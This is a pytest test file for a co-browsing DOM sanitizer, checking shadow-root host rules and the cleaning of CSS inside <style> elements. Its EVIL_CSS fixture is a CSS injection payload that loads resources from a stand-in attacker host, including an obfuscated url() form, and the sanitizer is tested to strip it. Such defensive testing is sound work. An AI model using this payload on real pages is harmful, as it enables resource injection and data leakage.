"""Shadow roots only on elements that can host one; every text inside a <style> is CSS
(issue 10, item 2), through a snapshot, an ``add`` op, a ``text`` op and a shadow root."""

import pytest
from sanitize_corpus_support import css_dangers, find_dangers
from test_sanitize_snapshot import ORIGIN, POLICY, body_of, el, page

from cobrowse.sanitize import SanitizeError, sanitize_mutation, sanitize_snapshot
from cobrowse.sanitize.policy import (
    DROPPED_HTML_ELEMENTS,
    HTML_ELEMENTS,
    MATH_ELEMENTS,
    PAGE_HTML_ELEMENTS,
    PLACEHOLDER_HTML_ELEMENTS,
    SHADOW_HOSTS,
    SVG_ELEMENTS,
)

ALLOWED = (ORIGIN, "https://cdn.example")
EVIL_CSS = ("@import url(http://attacker.example/x.css);"
            "a{background:u/**/rl(//attacker.example/a)}b{background:url(//attacker.example/b)}")
#: The HTML standard's valid shadow hosts, written out again (not imported) on purpose.
HOSTS = ("article aside blockquote body div footer h1 h2 h3 h4 h5 h6 header main nav p "
         "section span").split()
CUSTOM = ["x-widget", "my-el", "a-b-c", "x-1"]
NOT_CUSTOM = ["foo", "x", "font-face", "annotation-xml", "missing-glyph", "color-profile",
              "-x", "1-x", "X_Y"]


def evil_shadow(i: int) -> dict:
    return {"i": i, "t": 11, "c": [{"i": i + 1, "t": 3, "x": EVIL_CSS}]}


NON_HOSTS = sorted(
    [(None, n) for n in (HTML_ELEMENTS | PAGE_HTML_ELEMENTS | DROPPED_HTML_ELEMENTS
                         | PLACEHOLDER_HTML_ELEMENTS) - SHADOW_HOSTS if n != "body"]
    + [(None, n) for n in NOT_CUSTOM]
    + [(None, n.upper()) for n in ("style", "input", "img", "a")]
    + [("svg", n) for n in SVG_ELEMENTS]
    + [("math", n) for n in MATH_ELEMENTS]
    + [("svg", "div"), ("math", "span"), ("svg", "x-widget")],
    key=lambda pair: (pair[0] or "", pair[1]),
)


def test_the_table_is_the_standards_list():
    assert set(HOSTS) == SHADOW_HOSTS


def _node(ns, name, i=10, **extra):
    node = el(i, name, sh=evil_shadow(i + 1), **extra)
    if ns:
        node["ns"] = ns
    return node


@pytest.mark.parametrize(("ns", "name"), NON_HOSTS, ids=lambda v: str(v))
def test_a_shadow_root_on_an_element_that_cannot_host_one_is_refused(ns, name):
    node = _node(ns, name, d={"i": 30, "t": 9, "c": []} if name == "iframe" else None)
    if name == "iframe":
        node["a"] = {"src": "about:blank"}
    with pytest.raises(SanitizeError, match="cannot host"):
        sanitize_snapshot(page(node), POLICY)


@pytest.mark.parametrize(("ns", "name"), NON_HOSTS, ids=lambda v: str(v))
def test_an_add_op_with_such_a_shadow_root_is_refused(ns, name):
    live = Live()
    with pytest.raises(SanitizeError, match="cannot host"):
        live.ops({"o": "add", "p": 5, "b": None, "n": _node(ns, name, i=100)})
    # Deeper in the added subtree too.
    with pytest.raises(SanitizeError, match="cannot host"):
        live.ops({"o": "add", "p": 5, "b": None, "n": el(200, "div", c=[_node(ns, name, 201)])})


@pytest.mark.parametrize("name", HOSTS[1:] + CUSTOM + ["DIV", "X-Widget"])
def test_valid_hosts_keep_their_shadow_root_and_its_text_is_text(name):
    clean, index = sanitize_snapshot(page(_node(None, name)), POLICY)
    (node,) = body_of(clean)
    assert node["sh"]["t"] == 11
    assert node["sh"]["c"][0]["x"] == EVIL_CSS  # plain text in a shadow root: not a sheet
    assert index[12].endswith("|#text")
    assert find_dangers(clean, ALLOWED) == []


def test_the_body_can_host_one():
    event = page()
    event["doc"]["c"][1]["c"][1]["sh"] = evil_shadow(40)
    clean, _ = sanitize_snapshot(event, POLICY)
    assert clean["doc"]["c"][1]["c"][1]["sh"]["c"][0]["x"] == EVIL_CSS


def test_the_issue_example_is_refused():
    crafted = {"i": 10, "t": 1, "n": "style", "a": {}, "c": [], "sh": {
        "i": 11, "t": 11, "c": [{"i": 12, "t": 3, "x": "@import url(http://attacker.example/x.css);"}]}}
    with pytest.raises(SanitizeError, match="cannot host"):
        sanitize_snapshot(page(crafted), POLICY)


# --- text inside a <style> is CSS, however it gets there -------------------------------


def _sheet_is_clean(text: str):
    low = text.lower()
    assert "url(" not in low and "@import" not in low, text  # EVIL_CSS has no allowed URL
    assert css_dangers(text, set(ALLOWED)) == [], text


@pytest.mark.parametrize("ns", [None, "svg"])
def test_style_text_in_a_snapshot_is_cleaned(ns):
    style = el(10, "style", c=[{"i": 11, "t": 3, "x": EVIL_CSS}])
    if ns:
        style = el(20, "svg", ns="svg", c=[dict(style, ns="svg")])
    clean, index = sanitize_snapshot(page(style), POLICY)
    assert find_dangers(clean, ALLOWED) == []
    text = body_of(clean)[0]["c"][0] if ns else body_of(clean)[0]
    _sheet_is_clean(text["c"][0]["x"])
    assert index[11].endswith("|#css")


def test_elements_inside_a_style_are_dropped():
    style = el(10, "style", c=[el(11, "b", c=[{"i": 12, "t": 3, "x": EVIL_CSS}]),
                                {"i": 13, "t": 3, "x": "a{color:red}"}])
    clean, index = sanitize_snapshot(page(style), POLICY)
    assert body_of(clean)[0]["c"] == [{"i": 13, "t": 3, "x": "a{color:red}"}]
    assert 11 not in index and 12 not in index


def test_a_style_in_a_valid_shadow_root_is_cleaned():
    host = el(10, "div", sh={"i": 11, "t": 11, "c": [
        el(12, "style", c=[{"i": 13, "t": 3, "x": EVIL_CSS}]),
        el(14, "style", ns="svg", c=[{"i": 15, "t": 3, "x": EVIL_CSS}])]})
    clean, _ = sanitize_snapshot(page(host), POLICY)
    assert find_dangers(clean, ALLOWED) == []
    for style in body_of(clean)[0]["sh"]["c"]:
        _sheet_is_clean(style["c"][0]["x"])


class Live:
    """A page the server knows (the snapshot's index), changed by mutations like the relay
    does: each event's index changes applied before the next."""

    def __init__(self, *body):
        _, self.index = sanitize_snapshot(page(*body), POLICY)

    def ops(self, *ops) -> list[dict]:
        clean, changes = sanitize_mutation({"k": "mutation", "m": list(ops)}, POLICY,
                                           lambda ids: {i: self.index.get(i) for i in ids},
                                           ORIGIN + "/a/b.html")
        for i, entry in changes.items():
            if entry is None:
                self.index.pop(i, None)
            else:
                self.index[i] = entry
        assert find_dangers(clean, ALLOWED) == [], clean
        return clean["m"]


@pytest.mark.parametrize("ns", [None, "svg"])
def test_style_text_through_add_and_text_ops_is_cleaned(ns):
    style = el(10, "style", c=[{"i": 11, "t": 3, "x": "a{color:red}"}])
    if ns:
        style["ns"] = "svg"
        style = el(9, "svg", ns="svg", c=[style])
    live = Live(style)
    (op,) = live.ops({"o": "text", "i": 11, "x": EVIL_CSS})
    _sheet_is_clean(op["x"])
    (op,) = live.ops({"o": "add", "p": 10, "b": None, "n": {"i": 50, "t": 3, "x": EVIL_CSS}})
    _sheet_is_clean(op["n"]["x"])
    assert live.index[50].endswith("|#css")
    (op,) = live.ops({"o": "text", "i": 50, "x": EVIL_CSS})
    _sheet_is_clean(op["x"])
    # An element added into the <style> is dropped; so is a "shadow root".
    assert live.ops({"o": "add", "p": 10, "b": None,
                     "n": el(51, "b", c=[{"i": 52, "t": 3, "x": EVIL_CSS}])}) == []
    assert live.ops({"o": "add", "p": 10, "b": None, "n": evil_shadow(53)}) == []
    assert live.ops({"o": "text", "i": 52, "x": EVIL_CSS}) == []


def test_a_style_added_with_its_text_is_cleaned():
    live = Live()
    new = {"o": "add", "p": 5, "b": None,
           "n": el(60, "style", c=[{"i": 61, "t": 3, "x": EVIL_CSS}])}
    (op,) = live.ops(new)
    _sheet_is_clean(op["n"]["c"][0]["x"])
    host = el(70, "x-card", sh={"i": 71, "t": 11, "c": [
        el(72, "style", c=[{"i": 73, "t": 3, "x": EVIL_CSS}])]})
    (op,) = live.ops({"o": "add", "p": 5, "b": None, "n": host})
    _sheet_is_clean(op["n"]["sh"]["c"][0]["c"][0]["x"])
    (op,) = live.ops({"o": "add", "p": 71, "b": None,
                      "n": el(74, "style", c=[{"i": 75, "t": 3, "x": EVIL_CSS}])})
    _sheet_is_clean(op["n"]["c"][0]["x"])
